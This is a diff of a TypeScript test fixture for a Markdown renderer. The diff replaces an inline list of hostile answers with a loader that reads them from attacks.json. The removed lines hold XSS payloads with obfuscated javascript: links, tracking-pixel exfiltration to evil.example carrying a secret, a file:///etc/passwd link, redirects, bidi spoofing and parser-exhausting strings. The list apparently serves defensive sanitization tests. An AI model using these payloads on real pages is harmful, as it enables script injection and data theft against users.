@@ -1,59 +1,20 @@
-/** Answers that try to run a script, to load something, to lead astray, or to bring the page down. For tests. */
+/** For tests: answers that try to run a script, to load something, to lead astray, or to bring the page down. */
 
-const many = (text: string, count = 3_000) => text.repeat(count)
+import attacks from './attacks.json'
 
-export const ATTACKS: readonly string[] = [
-  '<script>window.hacked = 1</script>',
-  '<img src=x onerror="window.hacked = 1">',
-  '<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>',
-  '<iframe src="javascript:window.hacked=1"></iframe><object data="data:text/html,x"></object>',
-  '<details open ontoggle="window.hacked = 1">x</details>',
-  '<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>',
-  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">',
-  '<form action="https://evil.example/"><input name=a autofocus onfocus="window.hacked=1"></form>',
-  '<a href="javascript:window.hacked=1">x</a>',
-  '[x](javascript:window.hacked=1)',
-  '[x](JaVaScRiPt:window.hacked=1)',
-  '[x](java\tscript:window.hacked=1)',
-  '[x](&#106;avascript:window.hacked=1)',
-  '[x](javascript&colon;window.hacked=1)',
-  '[x](\u0001javascript:window.hacked=1)',
-  '[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)',
-  '[x](vbscript:window.hacked=1) [y](file:///etc/passwd) [z](blob:https://evil.example/1)',
-  '[x](//evil.example/a) [y](/v1/session) [z](?q=1) [w](\\\\evil.example\\a)',
-  '<javascript:window.hacked=1>',
-  '[x]: javascript:window.hacked=1\n\n[x]',
-  '[x](https://good.example@evil.example/)',
-  '[https://good.example](https://evil.example/ "onmouseover=window.hacked=1")',
-  '[\u202egnp.elpmaxe\u202c](https://evil.example/)',
-  '![x](https://evil.example/pixel.png)',
-  '![x](https://evil.example/?secret=SECRET "t")',
-  '![x](data:image/svg+xml,<svg onload=window.hacked=1>)',
-  '[![x](https://evil.example/a.png)](https://evil.example/)',
-  '![x][r]\n\n[r]: https://evil.example/r.png',
-  '<picture><source srcset="https://evil.example/s.png"><img src="https://evil.example/i.png"></picture>',
-  '<video src="https://evil.example/v.mp4" autoplay></video><audio src=https://evil.example/a.mp3>',
-  '$\\href{javascript:window.hacked=1}{x}$ $\\url{https://evil.example/}$',
-  '$\\includegraphics{https://evil.example/a.png}$ $\\htmlData{a=b}{x} \\htmlStyle{color:red}{x}$',
-  '$\\def\\a{\\a\\a}\\a$ $\\rule{99999em}{99999em}$',
-  '```html\n<script>window.hacked = 1</script>\n```',
-  '```"><script>window.hacked=1</script>\nx\n```',
-  '``` constructor\nx\n```\n\n``` __proto__\nx\n```',
-  'a [^1]\n\n[^1]: <img src=x onerror=window.hacked=1>',
-  '| <b onclick=window.hacked=1>a</b> |\n|---|\n| ![x](https://evil.example/t.png) |',
-  'https://evil.example/<script>window.hacked=1</script>',
-  'user\\@evil.example <mailto:a@b.example?body=x%0d%0aBcc:c@d.example>',
-  '\u202eright to left\u2066\u2067\u2068 \u200b\u200d\ufeff zero',
-  `z${many('\u0351', 500)}algo`,
-  many('>'),
-  many('> '),
-  many('*'),
-  many('['),
-  many('![a]('),
-  many('$a '),
-  many('\\(a '),
-  `${many('- ', 300)}a`,
-  many('_a __b '),
-  many('`', 400),
-  Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth * 2)}- a`).join('\n'),
-]
+/** A text, or one that is made of many equal pieces, or of lines that go deeper and deeper. */
+interface Attack {
+  readonly text?: string
+  readonly times?: number
+  readonly before?: string
+  readonly after?: string
+  readonly line?: string
+  readonly depths?: number
+}
+
+export const ATTACKS: readonly string[] = (attacks as readonly Attack[]).map(
+  ({ text = '', times = 1, before = '', after = '', line = '', depths = 0 }) =>
+    depths > 0
+      ? Array.from({ length: depths }, (_, depth) => ' '.repeat(2 * depth) + line).join('\n')
+      : before + text.repeat(times) + after,
+)
